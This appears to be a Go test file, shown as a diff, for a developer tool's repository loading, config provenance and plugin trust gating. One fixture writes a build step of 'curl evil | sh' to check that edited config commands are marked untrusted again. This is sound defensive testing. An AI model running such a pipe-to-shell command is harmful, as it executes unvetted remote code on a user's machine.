@@ -0,0 +1,161 @@
+package repository
+
+import (
+	"context"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/go-go-golems/devctl/pkg/config"
+	"github.com/go-go-golems/devctl/pkg/engine"
+	"github.com/go-go-golems/devctl/pkg/patch"
+	"github.com/go-go-golems/devctl/pkg/ports"
+	"github.com/go-go-golems/devctl/pkg/protocol"
+	"github.com/go-go-golems/devctl/pkg/runtime"
+	"github.com/go-go-golems/devctl/pkg/trust"
+	"github.com/pkg/errors"
+	"github.com/stretchr/testify/require"
+)
+
+// mutator is a plugin that only answers config.mutate with set.
+type mutator struct {
+	id  string
+	set map[string]any
+}
+
+func (m *mutator) Spec() runtime.PluginSpec        { return runtime.PluginSpec{ID: m.id} }
+func (m *mutator) Handshake() protocol.Handshake   { return protocol.Handshake{} }
+func (m *mutator) SupportsOp(op string) bool       { return op == "config.mutate" }
+func (m *mutator) Close(ctx context.Context) error { return nil }
+func (m *mutator) StartStream(ctx context.Context, op string, input any) (string, <-chan protocol.Event, error) {
+	return "", nil, errors.New("not supported")
+}
+func (m *mutator) Call(ctx context.Context, op string, input any, output any) error {
+	b, err := json.Marshal(map[string]any{"config_patch": patch.ConfigPatch{Set: m.set}})
+	if err != nil {
+		return err
+	}
+	return json.Unmarshal(b, output)
+}
+
+func TestMutateConfig_RecordsProvenance(t *testing.T) {
+	r := &Repository{}
+	p := &engine.Pipeline{Clients: []runtime.Client{&mutator{id: "db", set: map[string]any{"db.host": "remote"}}}}
+	conf, err := r.MutateConfig(context.Background(), p)
+	require.NoError(t, err)
+	v, _ := patch.Lookup(conf, "db.host")
+	require.Equal(t, "remote", v)
+	require.NotNil(t, p.Provenance)
+	require.Len(t, p.Provenance.Writes, 1)
+	require.Equal(t, "db", p.Provenance.Writes[0].Source)
+}
+
+func TestMutateConfig_StrictSeesInitialWrites(t *testing.T) {
+	r := &Repository{ProfileName: "dev", Profile: &config.Profile{Config: map[string]any{"db.host": "localhost"}}}
+	p := &engine.Pipeline{
+		Clients: []runtime.Client{&mutator{id: "db", set: map[string]any{"db.host": "remote"}}},
+		Opts:    engine.Options{Strict: true},
+	}
+	_, err := r.MutateConfig(context.Background(), p)
+	require.ErrorContains(t, err, `overwrote config key "db.host" set by "profile:dev"`)
+
+	p.Opts.Strict = false
+	p.Provenance = nil
+	conf, err := r.MutateConfig(context.Background(), p)
+	require.NoError(t, err)
+	v, _ := patch.Lookup(conf, "db.host")
+	require.Equal(t, "remote", v)
+	require.Len(t, p.Provenance.Writes, 2)
+}
+
+func TestInitialConfig_ProfileOverlay(t *testing.T) {
+	r := &Repository{
+		Ports:       map[string]int{"web": 8080},
+		ProfileName: "dev",
+		Profile:     &config.Profile{Config: map[string]any{"db.host": "localhost"}},
+	}
+	prov := &patch.Provenance{}
+	conf, err := r.InitialConfig(prov)
+	require.NoError(t, err)
+	v, _ := patch.Lookup(conf, "ports.web")
+	require.Equal(t, 8080, v)
+	v, _ = patch.Lookup(conf, "db.host")
+	require.Equal(t, "localhost", v)
+	require.Len(t, prov.Writes, 2)
+}
+
+func TestFilterPlan_DropsDisabledServicesAndDeps(t *testing.T) {
+	r := &Repository{Profile: &config.Profile{DisableServices: []string{"db"}}}
+	plan := r.FilterPlan(engine.LaunchPlan{Services: []engine.ServiceSpec{
+		{Name: "db"},
+		{Name: "web", DependsOn: []string{"db"}},
+	}})
+	require.Len(t, plan.Services, 1)
+	require.Equal(t, "web", plan.Services[0].Name)
+	require.Empty(t, plan.Services[0].DependsOn)
+}
+
+func TestLoad_GatesUntrustedPluginsAndConfigCommands(t *testing.T) {
+	t.Setenv("XDG_STATE_HOME", t.TempDir())
+	t.Setenv(config.UserConfigEnvVar, filepath.Join(t.TempDir(), "none.yaml"))
+	root := t.TempDir()
+	require.NoError(t, os.WriteFile(filepath.Join(root, ".devctl.yaml"), []byte(`
+plugins:
+  - id: app
+    path: true
+secret_providers:
+  vault: echo "$1"
+build:
+  - name: gen
+    run: make gen
+`), 0o644))
+
+	_, err := Load(Options{RepoRoot: root})
+	var untrusted *trust.UntrustedError
+	require.ErrorAs(t, err, &untrusted)
+	require.Len(t, untrusted.Findings, 2)
+	require.False(t, StopHooksTrusted(Options{RepoRoot: root}))
+
+	repo, err := Load(Options{RepoRoot: root, SkipUntrusted: true})
+	require.NoError(t, err)
+	require.Empty(t, repo.Specs)
+	require.False(t, repo.Builtin)
+	require.False(t, repo.ConfigTrusted)
+	_, err = repo.Secrets().Resolve(context.Background(), "vault:x")
+	require.ErrorContains(t, err, `unknown provider "vault"`)
+
+	asked := 0
+	_, err = Load(Options{RepoRoot: root, ConfirmTrust: func([]trust.Finding) (bool, error) { asked++; return true, nil }})
+	require.NoError(t, err)
+	require.Equal(t, 1, asked)
+
+	repo, err = Load(Options{RepoRoot: root})
+	require.NoError(t, err)
+	require.True(t, repo.Builtin)
+	require.Len(t, repo.Specs, 1)
+	require.True(t, StopHooksTrusted(Options{RepoRoot: root}))
+	v, err := repo.Secrets().Resolve(context.Background(), "vault:x")
+	require.NoError(t, err)
+	require.Equal(t, "x", v)
+
+	// Editing a step untrusts the config commands again.
+	require.NoError(t, os.WriteFile(filepath.Join(root, ".devctl.local.yaml"), []byte("build:\n  - name: gen\n    run: curl evil | sh\n"), 0o644))
+	_, err = Load(Options{RepoRoot: root})
+	require.ErrorAs(t, err, &untrusted)
+	require.Equal(t, "builtin", untrusted.Findings[0].ID)
+}
+
+func TestAllocatePorts_SavesOnlyWhenAsked(t *testing.T) {
+	root := t.TempDir()
+	r := &Repository{Root: root, Config: &config.File{Ports: map[string]int{"web": 0}}}
+	require.NoError(t, r.allocatePorts(nil))
+	require.NotZero(t, r.Ports["web"])
+	require.NoFileExists(t, ports.Path(root, ""))
+
+	r.savePorts = true
+	require.NoError(t, r.allocatePorts(nil))
+	saved, err := ports.Load(root, "")
+	require.NoError(t, err)
+	require.Equal(t, r.Ports, saved)
+}